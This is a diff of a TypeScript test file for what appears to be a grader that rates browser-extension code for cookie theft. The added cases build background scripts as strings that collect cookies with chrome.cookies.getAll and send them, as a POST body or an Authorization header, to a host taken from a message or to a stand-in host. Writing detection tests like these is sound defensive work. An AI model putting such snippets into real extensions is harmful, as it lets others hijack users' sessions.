@@ -9,7 +9,27 @@ const sends = (asked: string, address: string, between = ''): string =>
 const told = (asked: string, address: string, between = ''): string =>
   `chrome.runtime.onMessage.addListener((m) => { let url = m.url; chrome.cookies.getAll(${asked}, (all) => { ${between} fetch(${address}, { method: 'POST', body: JSON.stringify(all) }); }); });`;
 
+/** A helper gives the cookies of an origin back, with that origin beside them. */
+const beside = (gives: string, takes: string, between = ''): string =>
+  `async function session(m) { let origin = new URL(m.url).origin; const all = await chrome.cookies.getAll({ domain: origin.replace('https://', '') }); const headers = { Authorization: all[0].value }; ${between} return ${gives}; } chrome.runtime.onMessage.addListener(async (m) => { const ${takes} = await session(m); fetch(\`\${host}/me\`, { headers }); });`;
+
 describe('cookies', () => {
+  it.each([
+    ['[origin, headers]', '[host, headers]'],
+    ['{ host: origin, other: m.other, headers }', '{ host, headers }'],
+  ])('are less sure to be taken where a helper gives their origin beside them: %s', async (gives, takes) => {
+    expect(await graded({ background: beside(gives, takes) })).toMatch(/^[BC]$/);
+  });
+  it.each([
+    ['[m.other, headers]', '[host, headers]', ''],
+    ['[origin, headers, m.other]', '[, headers, host]', ''],
+    ['{ host: origin, other: m.other, headers }', '{ other: host, headers }', ''],
+    ['[origin, headers]', '[host, headers]', 'origin = m.other;'],
+    ['m.a ? [origin, headers] : [m.other, headers]', '[host, headers]', ''],
+    ['[origin, headers]', '[host, headers]', "if (m.a) return ['https://other.example', headers];"],
+  ])('are taken where it gives another: %s, %s, %s', async (gives, takes, between) => {
+    expect(await graded({ background: beside(gives, takes, between) })).toBe('F');
+  });
   it('are less sure to be taken where they go back to the address that they are asked for', async () => {
     expect(await graded({ background: sends('request', 'request.url') })).toMatch(/^[BC]$/);
     expect(await graded({ background: sends('request', 'request.url + "/list"') })).toMatch(/^[BC]$/);
